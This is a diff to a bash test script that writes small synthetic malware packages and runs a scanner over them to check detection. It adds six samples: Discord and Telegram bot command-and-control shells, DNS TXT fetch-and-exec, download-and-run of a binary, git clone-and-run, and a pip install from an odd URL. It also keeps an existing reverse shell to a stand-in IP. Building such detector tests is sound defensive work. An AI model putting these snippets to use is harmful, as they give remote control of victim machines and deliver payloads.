@@ -1,5 +1,5 @@
 #!/usr/bin/env bash
-# Generalisation probe: 21 small synthetic packages, each using one malware technique of
+# Generalisation probe: 27 small synthetic packages, each using one malware technique of
 # recent campaigns (written from public reports, not taken from the corpus), scanned with
 # default settings. Prints one line per technique: verdict, score, rules. The packages are
 # written to a temporary folder and scanned as unpacked folders; nothing is run.
@@ -139,6 +139,48 @@ s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
 s.connect(('198.51.100.9', 4444))
 os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
 subprocess.call(['/bin/sh', '-i'])
+EOF
+mk discordc2 <<'EOF'
+import subprocess, discord
+from discord.ext import commands
+bot = commands.Bot(command_prefix='!', intents=discord.Intents.all())
+@bot.command()
+async def run(ctx, *, cmd):
+    out = subprocess.run(cmd, shell=True, capture_output=True, text=True)
+    await ctx.send(out.stdout[:1900])
+bot.run('MTA4NjQ1NjM0NTY3ODkwMTIzNA.GaBcDe.abcdefghijklmnopqrstuvwxyz0123456789AB')
+EOF
+mk telegramc2 <<'EOF'
+import subprocess, telebot
+bot = telebot.TeleBot('6123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw')
+@bot.message_handler(commands=['cmd'])
+def handle(m):
+    bot.reply_to(m, subprocess.getoutput(m.text[5:]))
+bot.infinity_polling()
+EOF
+mk dnstxt <<'EOF'
+import base64, dns.resolver
+ans = dns.resolver.resolve('cfg.example-c2.net', 'TXT')
+exec(base64.b64decode(ans[0].strings[0]))
+EOF
+mk elfdrop <<'EOF'
+import os, urllib.request
+p = '/tmp/.cache-update'
+data = urllib.request.urlopen('http://203.0.113.77/agent').read()
+with open(p, 'wb') as f:
+    f.write(data)
+os.chmod(p, 0o755)
+os.system(p + ' &')
+EOF
+mk gitclonerun <<'EOF'
+import os, subprocess, tempfile
+d = tempfile.mkdtemp()
+subprocess.call(['git', 'clone', '-q', 'https://github.com/someone0x/helper', d])
+subprocess.Popen(['python', os.path.join(d, 'main.py')])
+EOF
+mk pipurl <<'EOF'
+import subprocess, sys
+subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--quiet', 'https://files.example-cdn.top/pkgs/helperlib-0.1.tar.gz'])
 EOF
 for d in */; do
   "$bin" scan --format json --fail-on suspicious "$d" 2>/dev/null | python3 -c '
